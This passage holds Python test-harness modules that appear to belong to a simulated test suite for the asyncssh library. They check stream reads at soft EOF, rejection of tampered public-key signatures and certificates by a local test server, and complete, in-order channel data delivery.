        'gaps': [rng.below(4) for _ in items],
    }


def valid_plan(plan):
    try:
        if len(plan['gaps']) != len(plan['items']) or not plan['prog']:
            return False

        for it in plan['items']:
            if it[0] not in ('line', 'seof') or \
                    (it[0] == 'line' and (it[1] not in WORDS)):
                return False

        for op in plan['prog']:
            if op[0] not in ('read', 'exactly', 'line', 'until', 'readall'):
                return False

            if op[0] in ('read', 'exactly') and not 1 <= op[1] <= 1000:
                return False

        return plan['prog'][-1] == ['readall']
    except (KeyError, TypeError, IndexError):
        return False


class Model:
    """The typed input as the stream session sees it: text with marks"""

    def __init__(self, items):
        # list of str (data) and None (soft EOF); the real EOF ends it
        self.q = []

        for it in items:
            if it[0] == 'seof':
                self.q.append(None)
            elif self.q and isinstance(self.q[-1], str):
                self.q[-1] += it[1] + '\n'
            else:
                self.q.append(it[1] + '\n')

    def head(self):
        """Text up to the next mark, and what ends it: 'seof' or 'eof'"""

        if self.q and self.q[0] is None:
            return '', 'seof'

        if not self.q:
            return '', 'eof'

        return self.q[0], ('seof' if len(self.q) > 1 else 'eof')

    def take(self, n):
        text = self.q[0]
        self.q[0] = text[n:]

        if not self.q[0]:
            self.q.pop(0)

        return text[:n]

    def mark(self):
        if self.q and self.q[0] is None:
            self.q.pop(0)

    def expect(self, op):
        """('ret', text) or ('incomplete', partial)"""

        text, end = self.head()
        k = op[0]

        if k == 'read':
            if text:
                # up to n units of what is there (any non-empty prefix of
                # it is a legal short read)
                return ('prefix', text[:op[1]])

            self.mark()
            return ('ret', '')

        if k == 'readall':
            if text:
                return ('ret', self.take(len(text)))

            self.mark()
            return ('ret', '')

        if k == 'exactly':
            if len(text) >= op[1]:
                return ('ret', self.take(op[1]))

            part = self.take(len(text)) if text else ''

            if not part:
                self.mark()

            return ('incomplete', part)

        sep = '\n' if k == 'line' else ';'
        i = text.find(sep)

        if i >= 0:
            return ('ret', self.take(i + 1))

        part = self.take(len(text)) if text else ''

        if not part:
            self.mark()

        # readline() returns what there is at (soft) EOF
        return ('ret', part) if k == 'line' else ('incomplete', part)


def run_plan(plan, sched_seed=None, sched_replay=None):
    world = World(plan, sched_seed, sched_replay)
    sim = world.sim
    model = Model(plan['items'])
    res = {'done': False, 'exc': None}

    async def server_process(process):
        stdin = process.stdin
        # (what each call must return does not depend on arrival times:
        # every call but read(n) waits for its terminator, and read(n) is
        # allowed any non-empty prefix)

        for ncall, op in enumerate(plan['prog']):
            want = model.expect(op)
            got = None

            try:
                if op[0] == 'read':
                    got = ('ret', await stdin.read(op[1]))
                elif op[0] == 'readall':
                    got = ('ret', await stdin.read())
                elif op[0] == 'exactly':
                    got = ('ret', await stdin.readexactly(op[1]))
                elif op[0] == 'line':
                    got = ('ret', await stdin.readline())
                else:
                    got = ('ret', await stdin.readuntil(';'))
            except asyncio.IncompleteReadError as exc:
                got = ('incomplete', exc.partial)
            except (asyncssh.Error, OSError) as exc:
                got = ('error', repr(exc))

            ok = got == want

            if want[0] == 'prefix':
                ok = got[0] == 'ret' and 0 < len(got[1]) and \
                    want[1].startswith(got[1])

                if ok:
                    model.take(len(got[1]))

            if not ok:
                world.violation(
                    'stream-api-mismatch',
                    'stdin call #%d %r after typed input %r: expected %r, '
                    'got %r' % (ncall + 1, op, plan['items'], want, got),
                    sig='softeof-' + op[0])
                break

            if want == ('incomplete', '') or (want == ('ret', '') and
                                              op[0] != 'readall'):
                sim.probes['soft_eof_ended_a_call'] += 1

        res['done'] = True
        process.exit(0)

    async def main():
        acc = await asyncssh.listen(
            '127.0.0.1', 22, server_factory=lambda: RecServer(world),
            process_factory=server_process, **server_opts())
        conn = await asyncssh.connect('127.0.0.1', 22, **client_opts())

        try:
            proc = await conn.create_process('cmd', term_type='xterm')

            try:
                for it, gap in zip(plan['items'], plan['gaps']):
                    for _ in range(gap):
                        await sim.pause('typing')

                    proc.stdin.write('\x04' if it[0] == 'seof'
                                     else it[1] + '\n')

                proc.stdin.write_eof()
            except BrokenPipeError:
                # the command has read what it wanted and is gone
                pass

            await proc.wait()
        except (asyncssh.Error, OSError) as exc:
            res['exc'] = exc

        await world.gate('done')
        conn.close()
        await conn.wait_closed()
        acc.close()
        await acc.wait_closed()

    world.start(main())
    world.run_phase()

    if res['exc'] is not None:
        world.violation('api-failed', 'terminal session failed: %r' %
                        (res['exc'],))
    elif not res['done'] and not sim.loop.capped and not world.violations:
        world.violation('hang', 'the command\'s reads never completed '
                        '(typed %r, program %r)' % (plan['items'],
                                                    plan['prog']),
                        sig='softeof')

    world.open_gate('done')
    world.run_phase()
    sim.probes['mode_editor'] += 1
    world.check_loop_health(allow_hang=True, loop_errors=False,
                            internal_errors=True)
    out = world.result(nontrivial=True,
                       sample={'items': plan['items'], 'prog': plan['prog']})
    world.close()
    return out
