"""C19, soft EOF: input typed at a terminal with the server's line editor on.
Ctrl-D on an empty line is a *soft* end of file -- it ends the read call that
is outstanding ("EOF ... reported as documented") and the stream goes on.
The server command reads its stdin with a drawn program of stream calls; a
model over the typed lines and the soft EOFs between them says what each call
must return or raise."""

import asyncio

import asyncssh

from simkit.world import World, RecServer, client_opts, server_opts

WORDS = ['a', 'ab', 'b;c', ';', 'abc;', 'x' * 9, '']


def gen_plan(rng):
    if rng.chance(25):
        return gen_plan_full_window(rng)

    items = []

    for _ in range(rng.between(1, 6)):
        r = rng.below(100)

        if r < 25:
            items.append(['seof'])
        elif r < 40:
            # a signal: delivered in the stream as an exception raised by
            # the call that reaches it
            items.append(['sig'])
        else:
            items.append(['line', rng.choice(WORDS)])

    prog = []

    for _ in range(rng.between(1, 8)):
        k = rng.weighted([('read', 25), ('exactly', 25), ('line', 20),
                          ('until', 20), ('readall', 10)])

        if k == 'read':
            prog.append(['read', rng.choice([1, 2, 5, 100])])
        elif k == 'exactly':
            prog.append(['exactly', rng.choice([1, 2, 4, 12])])
        else:
            prog.append([k])

    prog.append(['readall'])
    prog.append(['readall'])
    return {
        'drbg': rng.below(1 << 30),
        'profile': {'p_sched': rng.choice([0, 30, 70, 95]),
                    'p_chunk': rng.choice([10, 50, 90]),
                    'latency_ms': 0, 'capacity': 0},
        'mode': 'editor', 'items': items, 'prog': prog,
        'gaps': [rng.below(4) for _ in items],
        # the window the server advertises = the stream's buffer limit:
        # small ones make the session pause the channel while data waits
        'window': 2097152 if any(it[0] == 'sig' for it in items)
        else rng.choice([8, 16, 64, 2097152]),
    }


def gen_plan_full_window(rng):
    """No terminal: the client writes exactly one window of data without a
       separator (the session pauses the channel), sends a signal -- a
       request, which reaches the stream at once -- and then more lines,
       which have to wait for the window to re-open"""

    window = rng.choice([8, 16, 64])
    items = [['raw', window], ['sig']]

    for _ in range(rng.between(1, 3)):
        items.append(['line', rng.choice(['more', 'a', 'b;c', ''])])

    prog = []

    for _ in range(rng.between(2, 7)):
        k = rng.weighted([('read', 20), ('exactly', 20), ('line', 30),
                          ('until', 30)])

        if k == 'read':
            prog.append(['read', rng.choice([1, 5, 100])])
        elif k == 'exactly':
            prog.append(['exactly', rng.choice([1, 4, 12])])
        else:
            prog.append([k])

    prog += [['readall'], ['readall']]
    return {
        'drbg': rng.below(1 << 30),
        'profile': {'p_sched': rng.choice([0, 30, 70, 95]),
                    'p_chunk': rng.choice([10, 50, 90]),
                    'latency_ms': 0, 'capacity': 0},
        'mode': 'editor', 'raw': True, 'items': items, 'prog': prog,
        'gaps': [0] + [rng.below(6) for _ in items[1:]],
        'window': window,
    }


def valid_plan(plan):
    try:
        if plan.get('raw'):
            its = plan['items']

            if len(its) < 3 or its[0] != ['raw', plan['window']] or \
                    its[1] != ['sig'] or plan['window'] not in (8, 16, 64) \
                    or any(it[0] != 'line' for it in its[2:]) or \
                    len(plan['gaps']) != len(its) or \
                    any(it[1] not in ('more', 'a', 'b;c', '')
                        for it in its[2:]):
                return False

            for op in plan['prog']:
                if not op or op[0] not in ('read', 'exactly', 'line',
                                           'until', 'readall'):
                    return False

                if op[0] in ('read', 'exactly') and \
                        (len(op) != 2 or not 1 <= op[1] <= 1000):
                    return False

            return plan['prog'][-1] == ['readall']

        if len(plan['gaps']) != len(plan['items']) or not plan['prog']:
            return False

        for it in plan['items']:
            if it[0] not in ('line', 'seof', 'sig') or \
                    (it[0] == 'line' and (it[1] not in WORDS)):
                return False

        for op in plan['prog']:
            if op[0] not in ('read', 'exactly', 'line', 'until', 'readall'):
                return False

            if op[0] in ('read', 'exactly') and not 1 <= op[1] <= 1000:
                return False

        if not 4 <= plan.get('window', 2097152) <= 1 << 30:
            return False

        # (a signal is a channel request: it overtakes data the channel is
        # holding back for a paused session, so it is only typed where the
        # window never fills)
        if plan.get('window', 2097152) < 100000 and \
                any(it[0] == 'sig' for it in plan['items']):
            return False

        return plan['prog'][-1] == ['readall']
    except (KeyError, TypeError, IndexError):
        return False


class Model:
    """The typed input as the stream session sees it: text with marks"""

    def __init__(self, items):
        # list of str (data) and None (soft EOF); the real EOF ends it
        self.q = []

        for it in items:
            if it[0] == 'raw':
                self.q.append('x' * it[1])
            elif it[0] in ('seof', 'sig'):
                self.q.append((it[0],))
            elif self.q and isinstance(self.q[-1], str):
                self.q[-1] += it[1] + '\n'
            else:
                self.q.append(it[1] + '\n')

    def head(self):
        """Text up to the next mark, and what ends it: 'seof' or 'eof'"""

        if self.q and isinstance(self.q[0], tuple):
            return '', self.q[0][0]

        if not self.q:
            return '', 'eof'

        return self.q[0], (self.q[1][0] if len(self.q) > 1 else 'eof')

    def take(self, n):
        text = self.q[0]
        self.q[0] = text[n:]

        if not self.q[0]:
            self.q.pop(0)

        return text[:n]

    def mark(self):
        if self.q and isinstance(self.q[0], tuple):
            self.q.pop(0)

    def expect(self, op):
        """(what the call must give, how much text it consumes, whether it
           consumes the mark that follows): nothing is consumed here"""

        text, end = self.head()
        k = op[0]

        if not text and end == 'sig':
            # the signal is what the stream holds next: whatever the call
            return ('signal', 'INT'), 0, True

        if k == 'read':
            if text:
                # up to n units of what is there (any non-empty prefix of
                # it is a legal short read)
                return ('prefix', text[:op[1]]), None, False

            return ('ret', ''), 0, True

        if k == 'readall':
            if text:
                return ('ret', text), len(text), False

            return ('ret', ''), 0, True

        if k == 'exactly':
            if len(text) >= op[1]:
                return ('ret', text[:op[1]]), op[1], False

            return ('incomplete', text), len(text), not text

        sep = '\n' if k == 'line' else ';'
        i = text.find(sep)

        if i >= 0:
            return ('ret', text[:i + 1]), i + 1, False

        # readline() returns what there is at (soft) EOF
        return (('ret', text) if k == 'line' else ('incomplete', text)), \
            len(text), not text

    def commit(self, n, mark):
        if n:
            self.take(n)

        if mark:
            self.mark()


def run_plan(plan, sched_seed=None, sched_replay=None):
    world = World(plan, sched_seed, sched_replay)
    sim = world.sim
    model = Model(plan['items'])
    res = {'done': False, 'exc': None}

    async def server_process(process):
        stdin = process.stdin
        # (what each call must return does not depend on arrival times:
        # every call but read(n) waits for its terminator, and read(n) is
        # allowed any non-empty prefix)

        for ncall, op in enumerate(plan['prog']):
            want, used, mark = model.expect(op)
            got = None

            try:
                if op[0] == 'read':
                    got = ('ret', await stdin.read(op[1]))
                elif op[0] == 'readall':
                    got = ('ret', await stdin.read())
                elif op[0] == 'exactly':
                    got = ('ret', await stdin.readexactly(op[1]))
                elif op[0] == 'line':
                    got = ('ret', await stdin.readline())
                else:
                    got = ('ret', await stdin.readuntil(';'))
            except asyncio.IncompleteReadError as exc:
                got = ('incomplete', exc.partial)
            except asyncssh.SignalReceived as exc:
                got = ('signal', exc.signal)
            except (asyncssh.Error, OSError) as exc:
                got = ('error', repr(exc))

            ok = got == want

            if want[0] == 'prefix':
                ok = got[0] == 'ret' and 0 < len(got[1]) and \
                    want[1].startswith(got[1])
                used = len(got[1])
            elif not ok and op[0] in ('line', 'until') and \
                    got[0] == ('ret' if op[0] == 'line' else 'incomplete') \
                    and isinstance(got[1], str) and \
                    len(got[1]) >= plan['window'] and \
                    model.head()[0].startswith(got[1]) and \
                    (';' if op[0] == 'until' else '\n') not in got[1]:
                # the buffer filled up (reading paused) before a separator
                # came: the call gives up with what there is, losing nothing
                ok = True
                used, mark = len(got[1]), False
                sim.probes['limit_overrun'] += 1

            if ok:
                model.commit(used, mark)

            if not ok:
                world.violation(
                    'stream-api-mismatch',
                    'stdin call #%d %r after typed input %r: expected %r, '
                    'got %r' % (ncall + 1, op, plan['items'], want, got),
                    sig='softeof-' + op[0])
                break

            if want == ('incomplete', '') or (want == ('ret', '') and
                                              op[0] != 'readall'):
                sim.probes['soft_eof_ended_a_call'] += 1
            elif want[0] == 'signal':
                sim.probes['signal_in_stream'] += 1

        res['done'] = True
        process.exit(0)

    async def main():
        acc = await asyncssh.listen(
            '127.0.0.1', 22, server_factory=lambda: RecServer(world),
            process_factory=server_process,
            **server_opts(window=plan.get('window', 2097152)))
        conn = await asyncssh.connect('127.0.0.1', 22, **client_opts())

        try:
            proc = await conn.create_process(
                'cmd', **({} if plan.get('raw') else
                          dict(term_type='xterm')))

            try:
                for it, gap in zip(plan['items'], plan['gaps']):
                    for _ in range(gap):
                        await sim.pause('typing')

                    if it[0] == 'sig':
                        proc.send_signal('INT')
                    elif it[0] == 'raw':
                        proc.stdin.write('x' * it[1])
                    else:
                        proc.stdin.write('\x04' if it[0] == 'seof'
                                         else it[1] + '\n')

                proc.stdin.write_eof()
            except BrokenPipeError:
                # the command has read what it wanted and is gone
                pass

            await proc.wait()
        except (asyncssh.Error, OSError) as exc:
            res['exc'] = exc

        await world.gate('done')
        conn.close()
        await conn.wait_closed()
        acc.close()
        await acc.wait_closed()

    world.start(main())
    world.run_phase()

    if res['exc'] is not None:
        world.violation('api-failed', 'terminal session failed: %r' %
                        (res['exc'],))
    elif not res['done'] and not sim.loop.capped and not world.violations:
        world.violation('hang', 'the command\'s reads never completed '
                        '(typed %r, program %r)' % (plan['items'],
                                                    plan['prog']),
                        sig='softeof')

    world.open_gate('done')
    world.run_phase()
    sim.probes['mode_editor'] += 1
    world.check_loop_health(allow_hang=True, loop_errors=False,
                            internal_errors=True)
    out = world.result(nontrivial=True,
                       sample={'items': plan['items'], 'prog': plan['prog']})
    world.close()
    return out
