"""C16 -- signatures and certificates verify only when nothing was altered
(the in-protocol part: see MANIFEST level note and DESIGN.md 4 C16)."""

import struct

import asyncssh

from simkit import seams
from simkit.refssh.peer import RefPeer, PeerError, Closed, load_private, \
    public_blob, sign, sig_algs_for
from simkit.sshwire import Reader, Short, string, u32, u64, boolean
from simkit.world import World, RecServer, server_opts, key, pubkey

ID = 'C16'
NAME = 'signatures'
QUICK_S = 45
THOROUGH_S = 900
CHUNK = 40

RULE = ('A real asyncssh server (authorized_keys with plain user keys of '
        'every type RefPeer can sign with and a cert-authority line) receives '
        'from RefPeer a sequence of 1-4 publickey authentication requests, '
        'each waited for: a plain key with every signature algorithm of its '
        'type (ssh-ed25519, ssh-rsa, rsa-sha2-256/512, ecdsa-sha2-nistp256/'
        '384), or an OpenSSH user certificate built field by field '
        '(type, validity window around the simulated wall clock, principals, '
        'critical options incl. an unknown one, extensions, CA key trusted or '
        'not). Each request is sent unedited or with exactly one alteration: '
        'one byte of the signature blob, of the certificate, the algorithm '
        'name inside the signature, the signed data (user, session id), the '
        'signing key. The wall clock may step between requests. Oracle: '
        'USERAUTH_SUCCESS iff the request is unedited and the model says the '
        'credential is valid at the simulated instant; otherwise '
        'USERAUTH_FAILURE (or disconnect). The host-key signature and host '
        'certificate side is decided in C03/C04. Non-trivial = at least one '
        'signed request; distinct = (plan, schedule, trace) signature.')

ASSUMPTIONS = [
    'simulated event loop admits exactly asyncio-legal executions',
    'signing is done by RefPeer with PyCA directly; the verifier under test '
    'is asyncssh\'s',
    'the detached SSHSIG / allowed-signers clause and direct verify() calls '
    'outside a connection are pure functions with no peer, schedule or '
    'fault: not decided by this technique',
    'ed448, security-key (sk-*) and X.509 keys are not exercised',
]

REAL = ['asyncssh server: auth, public_key (signature verification of '
        'every key type, certificate decoding and validation), auth_keys']
STUB = ['event loop + clocks', 'TCP', 'executor', 'RefPeer as client '
        '(independent signer and certificate builder)']
PROBES = ['unedited_accepted', 'edit_rejected', 'cert_request',
          'cert_time_reject', 'cert_unknown_critical', 'cert_principal',
          'rsa_sha1', 'rsa_sha2', 'ecdsa', 'ed25519', 'clock_step']

KEYS = ['user_ed25519', 'user_rsa', 'user_ecdsa256', 'user_ecdsa384']
EDITS = ['none', 'none', 'sig_byte', 'sig_alg', 'signed_user', 'signed_sid',
         'other_key', 'key_byte', 'trailing', 'sig_extend', 'sig_blob_extra',
         'sig_empty', 'sig_inner_empty', 'sig_half']
CERT_EDITS = ['none', 'none', 'cert_byte', 'sig_byte', 'signed_sid',
              'sig_extend', 'sig_blob_extra', 'sig_empty', 'sig_inner_empty',
              'sig_half']


def gen_plan(rng):
    reqs = []

    for _ in range(rng.between(1, 4)):
        if rng.chance(55):
            kname = rng.choice(KEYS)
            reqs.append({'kind': 'plain', 'key': kname,
                         'alg': rng.below(3), 'edit': rng.choice(EDITS),
                         'pos': rng.below(1 << 16), 'bit': rng.below(8)})
        else:
            reqs.append({
                'kind': 'cert', 'edit': rng.choice(CERT_EDITS),
                'pos': rng.below(1 << 16), 'bit': rng.below(8),
                'type': rng.weighted([(1, 85), (2, 15)]),
                'after': rng.choice([-3600, -3600, -1, 0, 1, 30, 3600]),
                'before': rng.choice([3600, 3600, 1, 0, 20, 100000]),
                'principals': rng.choice([['alice'], [], ['bob'],
                                          ['alice', 'bob']]),
                'critical': rng.weighted([('none', 70), ('force', 10),
                                          ('unknown', 20)]),
                'ca': rng.weighted([('ca_ed25519', 85),
                                    ('ca2_ed25519', 15)]),
            })

            if reqs[-1]['before'] <= reqs[-1]['after']:
                reqs[-1]['before'] = reqs[-1]['after'] + 5

        reqs[-1]['step'] = rng.choice([0, 0, 0, 10, -10, 5000, -5000])

    return {
        'drbg': rng.below(1 << 30),
        'profile': {'p_sched': rng.choice([0, 30, 70]),
                    'p_chunk': rng.choice([10, 50]),
                    'latency_ms': 0, 'capacity': 0},
        'reqs': reqs,
    }


def valid_plan(plan):
    try:
        for r in plan['reqs']:
            if r['kind'] == 'plain':
                if r['key'] not in KEYS or r['edit'] not in EDITS:
                    return False
            elif r['kind'] == 'cert':
                if r['edit'] not in CERT_EDITS or r['type'] not in (1, 2) or \
                        r['before'] <= r['after'] or \
                        r['ca'] not in ('ca_ed25519', 'ca2_ed25519'):
                    return False
            else:
                return False

        return len(plan['reqs']) >= 1
    except (KeyError, TypeError):
        return False


def build_cert(user_pub32, ca_priv, ctype, principals, after, before,
               critical):
    """ssh-ed25519-cert-v01@openssh.com, built field by field"""

    crit = b''

    if critical == 'force':
        crit = string(b'force-command') + string(string(b'forced'))
    elif critical == 'unknown':
        crit = string(b'verif-unknown-option@example.com') + \
            string(string(b'x'))

    ext = string(b'permit-pty') + string(b'')
    body = string(b'ssh-ed25519-cert-v01@openssh.com') + \
        string(b'n' * 32) + string(user_pub32) + u64(7) + u32(ctype) + \
        string(b'key-id') + \
        string(b''.join(string(p.encode()) for p in principals)) + \
        u64(after) + u64(before) + string(crit) + string(ext) + \
        string(b'') + string(public_blob(ca_priv))
    sig = string(b'ssh-ed25519') + string(ca_priv.sign(body))
    return body + string(sig)


def run_plan(plan, sched_seed=None, sched_replay=None):
    world = World(plan, sched_seed, sched_replay)
    sim = world.sim
    now0 = int(seams.wall_now())
    res = {'outcomes': [], 'error': None}
    lines = [pubkey(k).export_public_key('openssh').decode().strip()
             for k in KEYS]
    lines.append('cert-authority ' + pubkey('ca_ed25519').export_public_key(
        'openssh').decode().strip())
    auth_keys = asyncssh.import_authorized_keys('\n'.join(lines) + '\n')

    class Srv(RecServer):
        def begin_auth(self, username):
            return True

    def flip(data, pos, bit, lo=0):
        b = bytearray(data)
        i = lo + pos % max(1, len(b) - lo)
        b[i] ^= 1 << bit
        return bytes(b)

    def expected(r, now):
        if r['edit'] != 'none':
            return False

        if r['kind'] == 'plain':
            return True

        return r['ca'] == 'ca_ed25519' and r['type'] == 1 and \
            now0 + r['after'] <= now < now0 + r['before'] and \
            (not r['principals'] or 'alice' in r['principals']) and \
            r['critical'] != 'unknown'

    def build(peer, r):
        user = 'alice'
        sid = peer.session_id
        suser = user

        if r['kind'] == 'plain':
            priv = load_private(r['key'])
            algs = sig_algs_for(priv)
            alg = algs[r['alg'] % len(algs)]
            blob = public_blob(priv)
            keyalg = alg
            signer = priv
        else:
            priv = load_private('user_ed25519')
            from cryptography.hazmat.primitives import serialization
            pub32 = priv.public_key().public_bytes(
                serialization.Encoding.Raw, serialization.PublicFormat.Raw)
            blob = build_cert(pub32, load_private(r['ca']), r['type'],
                              r['principals'], now0 + r['after'],
                              now0 + r['before'], r['critical'])
            keyalg = b'ssh-ed25519-cert-v01@openssh.com'
            alg = b'ssh-ed25519'
            signer = priv

        edit = r['edit']

        if edit == 'cert_byte':
            # past the outer algorithm name, which only selects the decoder
            blob = flip(blob, r['pos'], r['bit'], lo=40)
        elif edit == 'key_byte':
            blob = flip(blob, r['pos'], r['bit'], lo=4 + len(alg) if False
                        else 0)
        elif edit == 'signed_user':
            suser = 'alicf'
        elif edit == 'signed_sid':
            sid = flip(sid, r['pos'], r['bit'])
        elif edit == 'other_key':
            signer = load_private('evil_ed25519' if b'ed25519' in alg else
                                  'evil_rsa' if b'rsa' in alg else
                                  'evil_ecdsa256')

        body = boolean(True) + string(keyalg) + string(blob)
        signed = string(sid) + bytes([50]) + string(suser) + \
            string(b'ssh-connection') + string(b'publickey') + body
        sigalg = alg

        if edit == 'other_key':
            sigalg = sig_algs_for(signer)[0] if b'ecdsa' in alg else alg

        sig = sign(signer, sigalg, signed)

        if edit == 'sig_byte':
            sr = Reader(sig)
            a = sr.string()
            s = sr.string()
            sig = string(a) + string(flip(s, r['pos'], r['bit']))
        elif edit in ('sig_extend', 'sig_blob_extra'):
            sr = Reader(sig)
            a = sr.string()
            s = sr.string()

            if edit == 'sig_extend':
                sig = string(a) + string(s + b'\x00')
            else:
                sig = string(a) + string(s) + b'\x00'
        elif edit == 'sig_empty':
            sig = b''
        elif edit == 'sig_inner_empty':
            sig = string(Reader(sig).string()) + string(b'')
        elif edit == 'sig_half':
            sig = sig[:len(sig) // 2]
        elif edit == 'sig_alg':
            sr = Reader(sig)
            a = sr.string()
            s = sr.string()
            swap = {b'rsa-sha2-256': b'rsa-sha2-512',
                    b'rsa-sha2-512': b'ssh-rsa', b'ssh-rsa': b'rsa-sha2-256',
                    b'ssh-ed25519': b'ssh-ed448',
                    b'ecdsa-sha2-nistp256': b'ecdsa-sha2-nistp384',
                    b'ecdsa-sha2-nistp384': b'ecdsa-sha2-nistp256'}
            sig = string(swap[a]) + string(s)

        out = bytes([50]) + string(user) + string(b'ssh-connection') + \
            string(b'publickey') + body + string(sig)

        if edit == 'trailing':
            out += b'\x00'

        return out, alg

    async def script(peer):
        await peer.handshake()
        peer.send(bytes([5]) + string(b'ssh-userauth'))
        await peer.expect(6)

        for r in plan['reqs']:
            if r['step']:
                seams.set_skew(seams._state['skew'] + r['step'])
                sim.probes['clock_step'] += 1

            now = int(seams.wall_now())
            payload, alg = build(peer, r)
            peer.send(payload)

            try:
                while True:
                    p = await peer.recv()

                    if p[0] in (51, 52):
                        break
            except Closed:
                res['outcomes'].append((r, 'closed', expected(r, now), alg))
                return

            res['outcomes'].append((r, p[0], expected(r, now), alg))

            if p[0] == 52:
                return

    async def main():
        acc = await asyncssh.listen(
            '127.0.0.1', 22, server_factory=lambda: Srv(world),
            authorized_client_keys=auth_keys, **server_opts(login_timeout=60))
        peer = RefPeer(sim, 'client', rand=seams._urandom)
        res['peer'] = peer
        await sim.loop.create_connection(lambda: peer, '127.0.0.1', 22)

        try:
            await script(peer)
        except (PeerError, Closed, Short) as exc:
            res['error'] = exc

        await world.gate('done')
        peer.close()
        acc.close()
        await acc.wait_closed()

    world.start(main())
    world.run_phase()
    peer = res.get('peer')

    if peer is not None and peer.bug:
        world.close()
        from simkit.runner import HarnessError
        raise HarnessError('RefPeer stub crashed:\n' + peer.bug)

    for r, got, want, alg in res['outcomes']:
        if want and got != 52:
            world.violation(
                'valid-signature-rejected',
                'unedited %s request (%r, signature algorithm %r) was '
                'answered with %r' % (r['kind'], r, alg, got),
                sig=r['kind'] + ':' + alg.decode())
        elif not want and got == 52:
            world.violation(
                'altered-credential-accepted',
                '%s request with alteration %r (%r, signature algorithm %r) '
                'was accepted' % (r['kind'], r['edit'], r, alg),
                sig=r['kind'] + ':' + r['edit'])
        elif want:
            sim.probes['unedited_accepted'] += 1
        elif r['edit'] != 'none':
            sim.probes['edit_rejected'] += 1

        if r['kind'] == 'cert':
            sim.probes['cert_request'] += 1

            if r['edit'] == 'none' and not want:
                if r['critical'] == 'unknown':
                    sim.probes['cert_unknown_critical'] += 1
                elif r['principals'] and 'alice' not in r['principals']:
                    sim.probes['cert_principal'] += 1
                else:
                    sim.probes['cert_time_reject'] += 1
        else:
            a = alg.decode()
            sim.probes['rsa_sha1' if a == 'ssh-rsa' else
                       'rsa_sha2' if 'rsa' in a else
                       'ecdsa' if 'ecdsa' in a else 'ed25519'] += 1

        world.states.add((r['kind'], alg.decode(), r['edit'], got))

    world.open_gate('done')
    world.run_phase()
    world.check_loop_health(allow_hang=True, loop_errors=False)
    sample = {'requests': [(r['kind'], r.get('key'), r['edit'], got, want)
                           for r, got, want, _a in res['outcomes']]}
    return world.result(nontrivial=bool(res['outcomes']), sample=sample)
