"""C07 -- channel data arrives complete, in order, once, with EOF last."""

from . import chanload, c07_tuntap, c07_codecs

ID = 'C07'
NAME = 'channel_data'
QUICK_S = 40
THOROUGH_S = 900
CHUNK = 30

RULE = ('Each run: seeded plan of 1-4 concurrent channels (session/direct-'
        'tcpip, bytes/UTF-8 text, callback or stream readers, window 1..2M, '
        'max packet 1..32k, write programs of sizes 0..3 windows on '
        'stdin/stdout/stderr, optionally ending with EOF or with EOF and a '
        'close() right behind it (the closing side then only has to have '
        'received a prefix), reader pause schedules) on a real asyncssh '
        'client/server pair; the seeded scheduler decides segmentation, '
        'delivery order, reader resume and writer timing. A second '
        'population (12% of the runs): one tun@openssh.com channel in layer '
        '2 or layer 3 mode, both sides writing drawn packets, callback or '
        'stream reader with pauses: the packets delivered must be the '
        'packets written, one for one. A third one (8%): a text session '
        'whose encoding is drawn from utf-16 / utf-32 / utf-8-sig (a byte '
        'order mark starts each stream) and their mark-less forms, texts '
        'with 2- and 4-byte characters and U+FEFF as first character, on '
        'stdin, stdout and stderr with small windows and packets: each '
        'stream delivers the characters written to it. Non-trivial = at '
        'least one non-empty write was delivered; distinct = distinct '
        '(plan, schedule decisions, trace) signature.')

ASSUMPTIONS = [
    'simulated event loop admits exactly asyncio-legal executions (FIFO ready '
    'queue, timers by deadline, I/O observed once per iteration)',
    'PyCA primitives are correct',
    'both endpoints are asyncssh (an independent peer is used in C02)',
    'tunnel channels: a packet, with its address family in layer 3 mode, '
    'fits the receiver\'s window and its maximum packet size',
]

REAL = ['asyncssh connection/channel/session/stream code of both endpoints',
        'PyCA cryptography']
STUB = ['event loop + clock', 'TCP sockets/listener', 'DNS', 'executor',
        'OS randomness (DRBG)']
PROBES = ['reader_paused', 'short_reads', 'text_split_char', 'window_small',
          'multi_channel', 'stderr_data', 'eof_sent', 'closed_behind_eof',
          'stream_cut_in_character', 'pop_tuntap',
          'tunnel_packets_delivered', 'pop_codecs', 'text_starts_with_feff',
          'two_text_streams']


def gen_plan(rng):
    if rng.chance(12):
        # a second population: layer 2/3 tunnel channels, whose unit of
        # transfer is a packet (checks/c07_tuntap.py)
        return c07_tuntap.gen_plan(rng)

    if rng.chance(8):
        # a third one: text channels whose encoding starts each stream with
        # a byte order mark (checks/c07_codecs.py)
        return c07_codecs.gen_plan(rng)

    return chanload.gen_plan(rng)


def valid_plan(plan):
    if plan.get('pop') == 'tuntap':
        return c07_tuntap.valid_plan(plan)

    if plan.get('pop') == 'codecs':
        return c07_codecs.valid_plan(plan)

    return chanload.valid_plan(plan)


def run_plan(plan, sched_seed=None, sched_replay=None):
    if plan.get('pop') == 'tuntap':
        return c07_tuntap.run_plan(plan, sched_seed, sched_replay)

    if plan.get('pop') == 'codecs':
        return c07_codecs.run_plan(plan, sched_seed, sched_replay)

    def between(world, run):
        if world.sim.loop.capped:
            return

        pending = [t.sim_name for t in run.writers + run.readers
                   if not t.done() and not t.sim_name.startswith('rd')]

        if pending:
            world.violation('stall', 'writers never finished although every '
                            'reader keeps reading: %r' % pending[:6])

        run.check_streams(require_complete=True)

    def finish(world, run):
        run.check_lost()
        world.check_loop_health(internal_errors=True)

    world, run = chanload.run_channels(plan, sched_seed, sched_replay,
                                       between=between, finish=finish)

    sim = world.sim
    total = 0

    for i in run.opened:
        ch = plan['channels'][i]

        for side in ('c', 's'):
            ep = run.eps[(side, i)]
            total += ep.sent[0] + ep.sent[1]

            if ep.sent[1]:
                sim.probes['stderr_data'] += 1

            if ep.sent_eof:
                sim.probes['eof_sent'] += 1

        if ch['text'] and min(ch['pktsize'], ch['window']) < 4:
            sim.probes['text_split_char'] += 1

        if min(ch['window'], plan['srv_window']) <= 16:
            sim.probes['window_small'] += 1

    if len(run.opened) > 1:
        sim.probes['multi_channel'] += 1

    sim.probes['short_reads'] += sim.stats.get('short_reads', 0)

    if run.connect_error is not None:
        world.violation('connect-failed', 'connect() failed without any '
                        'fault: %r' % (run.connect_error,))

    for err in run.open_errors:
        world.violation('open-failed', 'channel %d failed to open: %r' % err)

    sample = {'channels': [{k: ch[k] for k in ('kind', 'text', 'window',
                                               'pktsize', 'reader_c',
                                               'reader_s')}
                           for ch in plan['channels']],
              'profile': plan['profile'], 'units_written': total,
              'loop_iterations': sim.loop.iterations,
              'packets': {k: len(v) for k, v in sim.pkts.items()}}

